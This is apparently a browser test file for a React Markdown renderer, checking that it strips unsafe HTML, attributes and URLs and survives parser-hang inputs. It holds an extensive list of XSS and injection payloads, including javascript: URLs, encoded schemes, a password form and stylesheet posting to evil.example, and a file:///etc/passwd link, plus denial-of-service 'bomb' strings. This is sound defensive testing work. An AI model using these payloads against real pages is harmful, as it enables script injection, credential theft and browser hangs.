import { expect, test } from 'vitest';
import { render } from 'vitest-browser-react';
import { Markdown, safeUrl } from './Markdown.tsx';

const show = async (text: string) => (await render(<Markdown text={text} />)).container;

/** Known attacks: raw HTML, event handlers, addresses, encodings, and markdown's own corners. */
const attacks = [
  '<script>globalThis.hacked = 1</script>',
  '<img src=x onerror="globalThis.hacked = 1">',
  '<svg/onload=globalThis.hacked=1>',
  '<svg><script>globalThis.hacked=1</script></svg>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<body onload=globalThis.hacked=1>',
  '<details open ontoggle=globalThis.hacked=1><summary>x</summary></details>',
  '<a href="javascript:globalThis.hacked=1">press</a>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<object data="javascript:globalThis.hacked=1"></object>',
  '<embed src="javascript:globalThis.hacked=1">',
  '<math><mtext><img src=x onerror=globalThis.hacked=1></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.hacked=1>"></noscript>',
  '<!--><img src=x onerror=globalThis.hacked=1>-->',
  '<![CDATA[<img src=x onerror=globalThis.hacked=1>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">globalThis.hacked=1</x:script>',
  '<template><img src=x onerror=globalThis.hacked=1></template>',
  '[press](javascript:globalThis.hacked=1)',
  '[press](JaVaScRiPt:globalThis.hacked=1)',
  '[press](java\tscript:globalThis.hacked=1)',
  '[press](&#106;avascript:globalThis.hacked=1)',
  '[press](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:globalThis.hacked=1)',
  '[press](javascript&colon;globalThis.hacked=1)',
  '[press](<javascript:globalThis.hacked=1>)',
  '[press](\u0001javascript:globalThis.hacked=1)',
  '[press](vbscript:msgbox(1))',
  '[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)',
  '[press](blob:https://example.com/x)',
  '[press](file:///etc/passwd)',
  '[press](//evil.example/x)',
  '[press](/dashboard/keys)',
  '![x](javascript:globalThis.hacked=1)',
  '![x](https://evil.example/pixel.png)',
  '![x" onerror="globalThis.hacked=1](https://evil.example/x.png)',
  '![x](x.png "onerror=globalThis.hacked=1")',
  '[x]: javascript:globalThis.hacked=1\n\n[x]',
  '<javascript:globalThis.hacked=1>',
  '[a](https://example.com" onmouseover="globalThis.hacked=1)',
  '[a](https://example.com/?q=<script>globalThis.hacked=1</script>)',
  '`<img src=x onerror=globalThis.hacked=1>`',
  '```html\n<script>globalThis.hacked=1</script>\n```',
  '| <img src=x onerror=globalThis.hacked=1> |\n|---|\n| <script>globalThis.hacked=1</script> |',
  '- [x] <input onfocus=globalThis.hacked=1 autofocus>',
  '[^1]\n\n[^1]: <img src=x onerror=globalThis.hacked=1>',
  '# <img src=x onerror=globalThis.hacked=1>',
  '> <img src=x onerror=globalThis.hacked=1>',
  '[![x](javascript:globalThis.hacked=1)](javascript:globalThis.hacked=1)',
  '{{constructor.constructor("globalThis.hacked=1")()}}',
  '\u202E<img src=x onerror=globalThis.hacked=1>',
];

const elements = new Set(
  'div p br strong em del a span ul ol li code pre blockquote hr table thead tbody tr th td'.split(
    ' ',
  ),
);
const attributes = new Set(['class', 'href', 'target', 'rel', 'tabindex', 'start']);

test.each(attacks)('nothing runs, loads or misleads: %s', async (text) => {
  const all = [...(await show(text)).querySelectorAll('*')];
  for (const element of all) {
    expect(elements).toContain(element.localName);
    for (const { name } of element.attributes) expect(attributes).toContain(name);
    if (element instanceof HTMLAnchorElement) {
      expect(element.protocol).toMatch(/^(https?|mailto):$/);
      expect(element.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
      expect(element.rel).toBe('noopener noreferrer nofollow ugc');
      element.target = '_self';
      element.addEventListener('click', (event) => event.preventDefault());
      element.click();
    }
  }
  expect(Reflect.get(globalThis, 'hacked')).toBeUndefined();
});

test('a message keeps its lines, lists, code and links', async () => {
  const element = await show('One\ntwo **three** `four`\n\n- five\n- https://example.com/six');
  expect(element.querySelectorAll('br')).toHaveLength(1);
  expect(element.querySelector('strong')?.textContent).toBe('three');
  expect(element.querySelector('code')?.textContent).toBe('four');
  expect(element.querySelectorAll('li')).toHaveLength(2);
  expect(element.querySelector('a')?.href).toBe('https://example.com/six');
});

test('HTML is shown as what was typed', async () => {
  expect((await show('a <b>bold</b> claim')).textContent).toBe('a <b>bold</b> claim');
});

const filled = (piece: string) => piece.repeat(10_000 / piece.length).trim();
const lines = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n');

/** Each broke the parser, or took seconds of the browser of who read it. */
const bombs: [string, string][] = [
  ['quotes in quotes', '>'.repeat(9999)],
  ['lists in quotes', '> - '.repeat(2499)],
  ['numbered lists in lists', filled('1. ')],
  [
    'a list that grows by each line',
    lines(28, (at) => `${' '.repeat(at * 24)}${'- '.repeat(12)}a`),
  ],
  ['lists a level deeper by each line', lines(99, (at) => `${'  '.repeat(at)}- a`)],
  ['a table of cells', filled('|a')],
  ['a wide table', `${'|a'.repeat(800)}|\n${'|-'.repeat(800)}|\n${'a\n'.repeat(3300)}`],
  ['a table that is filled up', `${'|a'.repeat(165)}|\n${'|-'.repeat(165)}|\n${'|\n'.repeat(330)}`],
  ['open brackets', filled('[')],
  ['pictures in pictures', `${'!['.repeat(999)}a${'](b)'.repeat(999)}`],
  ['stars', filled('***')],
  ['words between stars', filled('***a ')],
  ['strong in emphasis', `${'*a **b '.repeat(166)}${'c** d*'.repeat(166)}`],
  ['underlined headings', filled('a\n-\n')],
  ['characters by name', `http://example.com/${filled('&a;')}`],
];

test.each(bombs)('%s are shown as typed', async (_, text) => {
  const element = await show(text);
  expect(element.querySelector('p')?.textContent).toBe(text);
  expect(element.textContent).toContain('without formatting');
});

test('what is long and plain keeps its formatting', async () => {
  const log = lines(150, (at) => `2026-11-20T12:00:00Z request ${at} answered *500* within 12 ms`);
  const quoted = `${log}\n\n${'> '.repeat(8)}so it was said\n\n| a | b |\n|---|---|\n| 1 | 2 |`;
  const element = await show(quoted);
  expect(element.querySelectorAll('em')).toHaveLength(150);
  expect(element.querySelectorAll('blockquote')).toHaveLength(8);
  expect(element.querySelectorAll('td')).toHaveLength(2);
});

test.each([
  ['https://example.com/', 'https://example.com/'],
  ['mailto:a@example.com', 'mailto:a@example.com'],
  ['javascript:1', ''],
  [' javascript:1', ''],
  ['/dashboard', ''],
  ['', ''],
])('%j leads to %j', (address, safe) => {
  expect(safeUrl(address)).toBe(safe);
});
